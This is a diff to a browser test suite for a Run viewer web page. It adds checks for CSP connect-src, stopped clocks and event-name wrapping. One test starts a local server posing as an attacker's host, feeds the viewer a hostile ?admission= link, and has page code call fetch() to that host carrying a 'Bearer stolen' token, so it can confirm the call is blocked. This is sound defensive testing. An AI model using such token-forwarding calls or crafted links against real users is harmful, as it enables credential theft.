@@ -12,16 +12,23 @@
  * names) finds no violation on the Run list, a live Run with a question to answer and a settled Run
  * with an unknown tool outcome; the list, a Run and its answer form are used with the
  * keyboard alone (Tab, Enter), every element focused on the way showing a visible focus ring.
+ * Issue [18]: a settled Run's clocks stop at the settlement (the text stays the same across
+ * re-renders over real seconds); event names wrap only after their dots (measured from the
+ * rendered line boxes of each character); a link's `?admission=` naming another host (a local
+ * HTTP server standing in for an attacker) is refused on the page and gets no request, the
+ * browser blocks a direct call to it (CSP `connect-src` lists only the configured admission).
  * Screenshots are kept under .runplane/test-artifacts/viewer/.
  */
 import { mkdirSync, mkdtempSync, rmSync } from 'node:fs';
+import { createServer, type IncomingHttpHeaders } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
 import { AxeBuilder } from '@axe-core/playwright';
 import { chromium, type BrowserContext, type Locator, type Page } from 'playwright-core';
 import { RunplaneClient } from '@runplane/client';
-import { createDevAuth, repoRoot, type DevAuth } from '@runplane/devstack';
+import { createDevAuth, repoRoot, viewerOrigins, type DevAuth } from '@runplane/devstack';
 import { effectsOf, kill9, ofType } from '../support/faults.js';
 import { eventually, startTestStack, type TestStack } from '../support/stack.js';
 
@@ -265,6 +272,144 @@ async function scriptAnswer(key: string, paragraphs: string[], paragraphDelayMs:
   await t.setScenario({ steps: [{ reply: { content: paragraphs.join('\n\n') }, paragraphDelayMs }], then: 'error' }, key);
 }
 
+/** The sources of a Content-Security-Policy's `connect-src` directive, in order ([] when absent). */
+function connectSrcOf(csp: string | null): string[] {
+  const directive = (csp ?? '')
+    .split(';')
+    .map((d) => d.trim().split(/\s+/))
+    .find(([name]) => name === 'connect-src');
+  return directive ? directive.slice(1) : [];
+}
+
+/** What a local HTTP server standing in for an attacker's host saw of one request. */
+interface HostileHit {
+  method: string;
+  url: string;
+  authorization: string | null;
+}
+
+/**
+ * Starts an HTTP server on a free loopback port that answers everything with 200 and the most
+ * permissive CORS (any origin, the Authorization header allowed): only the viewer itself and the
+ * browser's CSP can keep a request from reaching it. Records every request it gets.
+ */
+async function startHostileHost(): Promise<{ url: string; hits: HostileHit[]; close(): Promise<void> }> {
+  const hits: HostileHit[] = [];
+  const server = createServer((req, res) => {
+    const headers: IncomingHttpHeaders = req.headers;
+    hits.push({ method: req.method ?? '', url: req.url ?? '', authorization: headers.authorization ?? null });
+    res.writeHead(200, {
+      'Content-Type': 'application/json',
+      'Access-Control-Allow-Origin': '*',
+      'Access-Control-Allow-Headers': 'Authorization, Content-Type, Accept',
+      'Access-Control-Allow-Methods': 'GET, POST',
+    });
+    res.end('{"runs":[],"nextCursor":null}');
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const { port } = server.address() as AddressInfo;
+  return {
+    url: `http://127.0.0.1:${port}`,
+    hits,
+    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
+  };
+}
+
+/** The budget card's rendered state: its text, how many times it was rendered, its clocks. */
+async function budgetOf(page: Page): Promise<{ text: string; renders: number; clocks: string | null }> {
+  const budget = page.locator('#budget');
+  return {
+    text: (await budget.textContent()) ?? '',
+    renders: Number(await budget.getAttribute('data-renders')),
+    clocks: await budget.getAttribute('data-clocks'),
+  };
+}
+
+/**
+ * Waits, by polling the page, until it has re-rendered its budget at least twice more and at
+ * least `ms` of its own clock have passed since the call: a real interval over which any running
+ * clock (shown to the second) must change.
+ */
+async function acrossRenders(page: Page, ms: number): Promise<void> {
+  const start = await page.evaluate((): { renders: number; now: number } => {
+    const w = globalThis as unknown as ClockGlobals;
+    return { renders: Number(w.document.getElementById('budget')?.dataset.renders ?? 0), now: w.Date.now() };
+  });
+  await page.waitForFunction(
+    ({ renders, now, wait }) => {
+      const w = globalThis as unknown as ClockGlobals;
+      return Number(w.document.getElementById('budget')?.dataset.renders ?? 0) >= renders + 2 && w.Date.now() >= now + wait;
+    },
+    { ...start, wait: ms },
+    { timeout: ms + 10_000, polling: 100 },
+  );
+}
+interface ClockGlobals {
+  document: { getElementById(id: string): { dataset: Record<string, string | undefined> } | null };
+  Date: { now(): number };
+}
+
+/** How one event name is laid out: its lines and the character before each line break. */
+interface NameLayout {
+  type: string;
+  text: string;
+  title: string;
+  lines: number;
+  breaksAfter: string[];
+  cut: boolean;
+}
+interface LayoutNode {
+  nodeType: number;
+  data: string;
+}
+interface LayoutElement {
+  textContent: string | null;
+  title: string;
+  childNodes: LayoutNode[];
+  scrollWidth: number;
+  clientWidth: number;
+  closest(selector: string): { dataset: Record<string, string | undefined> } | null;
+}
+interface LayoutGlobals {
+  document: {
+    querySelectorAll(selector: string): LayoutElement[];
+    getElementById(id: string): { style: Record<string, string> } | null;
+    createRange(): { setStart(n: LayoutNode, i: number): void; setEnd(n: LayoutNode, i: number): void; getClientRects(): { top: number }[] };
+  };
+}
+
+/**
+ * The rendered layout of every event name in the lanes: for each character its line box (the
+ * top of its client rect), a new line wherever the top moves down; `breaksAfter` lists the
+ * character each line ends with; `cut` when the name is wider than its box (ellipsis).
+ */
+const eventNameLayouts = (page: Page): Promise<NameLayout[]> =>
+  page.evaluate((): NameLayout[] => {
+    const d = (globalThis as unknown as LayoutGlobals).document;
+    return [...d.querySelectorAll('.events .event-type')].map((el) => {
+      const chars: { c: string; top: number }[] = [];
+      for (const node of [...el.childNodes]) {
+        if (node.nodeType !== 3) continue; // the <wbr> elements
+        for (let i = 0; i < node.data.length; i++) {
+          const r = d.createRange();
+          r.setStart(node, i);
+          r.setEnd(node, i + 1);
+          chars.push({ c: node.data[i]!, top: r.getClientRects()[0]?.top ?? Number.NaN });
+        }
+      }
+      const breaksAfter: string[] = [];
+      for (let k = 1; k < chars.length; k++) if (chars[k]!.top > chars[k - 1]!.top + 2) breaksAfter.push(chars[k - 1]!.c);
+      return {
+        type: el.closest('li')?.dataset.type ?? '',
+        text: el.textContent ?? '',
+        title: el.title,
+        lines: breaksAfter.length + 1,
+        breaksAfter,
+        cut: el.scrollWidth > el.clientWidth + 1,
+      };
+    });
+  });
+
 const PARAGRAPHS = [
   'DIA holds the thirty stocks of the Dow Jones Industrial Average, weighted by price.',
   'Its largest positions are the highest-priced shares, not the largest companies. <b>Not markup</b> & <i>not</i> either.',
@@ -280,7 +425,18 @@ describe('the Run viewer in a real browser', () => {
     expect(page.status).toBe(200);
     expect(page.headers.get('content-type')).toMatch(/^text\/html/);
     expect(page.headers.get('content-security-policy')).toContain("script-src 'self'");
+    // the page may connect to its own origin and to the configured admission only (issue [18]):
+    // no scheme-wide source (http:, https:), no wildcard
+    const admissionOrigins = viewerOrigins(t.stack.endpoints.admission);
+    expect(connectSrcOf(page.headers.get('content-security-policy'))).toEqual(["'self'", ...admissionOrigins]);
     expect(page.headers.get('x-content-type-options')).toBe('nosniff');
+    const config = await fetch(`${base}/viewer/config.json`);
+    expect([config.status, config.headers.get('content-type'), await config.json()]).toEqual([
+      200,
+      expect.stringMatching(/^application\/json/),
+      { admissionOrigins },
+    ]);
+    expect(connectSrcOf(config.headers.get('content-security-policy'))).toEqual(["'self'", ...admissionOrigins]);
     const script = await fetch(`${base}/viewer/viewer.js`);
     expect([script.status, script.headers.get('content-type')]).toEqual([200, expect.stringMatching(/javascript/)]);
     // the API beside it still wants the token
@@ -486,6 +642,115 @@ describe('the Run viewer in a real browser', () => {
     await shot(page, 'run-tool-unknown');
     await shotOfTools(page, 'tools-unknown');
     await page.close();
+  });
+
+  it('stops the clocks of a settled Run at its settlement (no ticking across real seconds) and wraps event names only after their dots', async () => {
+    const page = await openViewer();
+    const key = `clocks-${t.tag}`;
+    const paragraphs = [1, 2, 3, 4].map((i) => `Paragraph ${i} of an answer slow enough to watch its clocks run.`);
+    await scriptAnswer(key, paragraphs, 3_000);
+    const { body } = await client().postMessage(`conv-${key}`, { clientMessageId: key, content: `[${key}] What does SPY hold?` });
+    const runId = body.runId;
+    await openRunFromList(page, runId);
+
+    // live: the clocks run, and move across a couple of seconds
+    await page.locator('#budget[data-clocks="running"] dd', { hasText: 'so far' }).first().waitFor({ timeout: 30_000 });
+    const live = await budgetOf(page);
+    await acrossRenders(page, 2_100);
+    const liveLater = await budgetOf(page);
+    expect(ofType(await t.log.readRun(runId), 'run.settled')).toHaveLength(0);
+    expect([live.clocks, liveLater.clocks]).toEqual(['running', 'running']);
+    expect(liveLater.text).not.toBe(live.text);
+
+    // settled: shown, and the projection caught up (its counts final); the clocks say they
+    // stopped, and stay as they are
+    expect(await settledIn(page)).toBe('completed');
+    await page
+      .locator('#budget[data-projected="settled"][data-clocks="stopped"] dd', { hasText: 'stopped at the settlement' })
+      .waitFor({ timeout: 30_000 });
+    const settled = await budgetOf(page);
+    await acrossRenders(page, 2_100);
+    const settledLater = await budgetOf(page);
+    expect(settledLater.renders).toBeGreaterThanOrEqual(settled.renders + 2);
+    expect(settledLater.text).toBe(settled.text);
+    expect(settled.text).not.toMatch(/so far| ago|\(in /);
+    expect(settled.text).toMatch(/before the settlement/);
+
+    // event names: at the page's own width and in lanes forced narrow, a name breaks only after a
+    // dot, is never cut, and keeps its full name as text and title
+    const events = await throughSettlement(runId);
+    for (const layout of ['default', 'narrow']) {
+      if (layout === 'narrow') {
+        // CSSOM (allowed by the page's CSP, unlike a style attribute): six lanes of 8rem
+        await page.evaluate(() => {
+          const lanes = (globalThis as unknown as LayoutGlobals).document.getElementById('lanes')!;
+          lanes.style.gridTemplateColumns = 'repeat(6, 8rem)';
+        });
+      }
+      const names = await eventNameLayouts(page);
+      expect(names).toHaveLength(events.length);
+      for (const n of names) {
+        expect({ layout, ...n }).toEqual({ layout, ...n, text: n.type, title: n.type, breaksAfter: n.breaksAfter.map(() => '.'), cut: false });
+      }
+      // the narrow lanes do make names wrap (at their dots): the check above saw real breaks
+      if (layout === 'narrow') expect(names.filter((n) => n.lines > 1).map((n) => n.type)).toContain('passage.committed');
+    }
+    await shot(page, 'run-narrow-lanes');
+    await page.close();
+  });
+
+  it("refuses a link's ?admission= naming another host (visible, nothing sent to it: the token stays), and the browser blocks a direct call (CSP connect-src)", async () => {
+    const hostile = await startHostileHost();
+    const page = await browser.newPage();
+    // this page provokes CSP violations on purpose: its console is checked here, not with the others
+    const consoleLines: string[] = [];
+    page.on('console', (m) => consoleLines.push(m.text()));
+    page.on('pageerror', (e) => pageErrors.push(e.message));
+    try {
+      // the victim's tab is connected (the token in its sessionStorage) ...
+      await page.goto(`${t.stack.endpoints.publication}/viewer/`);
+      await expect(page.getByLabel('Admission URL').inputValue()).resolves.toBe(t.stack.endpoints.admission);
+      await page.getByLabel('Bearer token').fill(token);
+      const listed = page.waitForResponse((r) => r.url().startsWith(`${t.stack.endpoints.admission}/v1/runs?`));
+      await page.getByRole('button', { name: 'Connect' }).click();
+      expect((await listed).status()).toBe(200);
+
+      // ... when it follows an attacker's link: refused in words, the configured admission kept and called
+      const link = `${t.stack.endpoints.publication}/viewer/?admission=${encodeURIComponent(hostile.url)}`;
+      const relisted = page.waitForResponse((r) => r.url().startsWith(`${t.stack.endpoints.admission}/v1/runs?`));
+      await page.goto(link);
+      const refused = page.getByRole('alert');
+      await refused.waitFor();
+      expect(await refused.textContent()).toContain(`Refused the link's admission ${hostile.url}`);
+      expect((await relisted).status()).toBe(200);
+      await expect(page.getByLabel('Admission URL').inputValue()).resolves.toBe(t.stack.endpoints.admission);
+      await expectAccessible(page, 'a refused admission link');
+      await shot(page, 'admission-refused');
+
+      // typed into the form: refused the same way
+      await page.getByLabel('Admission URL').fill(`${hostile.url}/`);
+      await page.getByRole('button', { name: 'Connect' }).click();
+      await page.locator('#admission-refused[role="alert"]', { hasText: `Refused the admission URL ${hostile.url}/` }).waitFor();
+
+      // even code in the page could not reach it: the browser refuses the connection (CSP)
+      const direct = await page.evaluate(async (url: string) => {
+        try {
+          await fetch(`${url}/v1/runs`, { headers: { Authorization: 'Bearer stolen' } });
+          return 'sent';
+        } catch {
+          return 'blocked';
+        }
+      }, hostile.url);
+      expect(direct).toBe('blocked');
+      expect(consoleLines.some((m) => m.includes('Content Security Policy') && m.includes('connect-src') && m.includes(hostile.url))).toBe(true);
+
+      // the host records what reaches it (proved with one request of the test's own), and got nothing else
+      await fetch(`${hostile.url}/sentinel`);
+      expect(hostile.hits).toEqual([{ method: 'GET', url: '/sentinel', authorization: null }]);
+    } finally {
+      await page.close();
+      await hostile.close();
+    }
   });
 
   it('raised no error in the pages', () => {
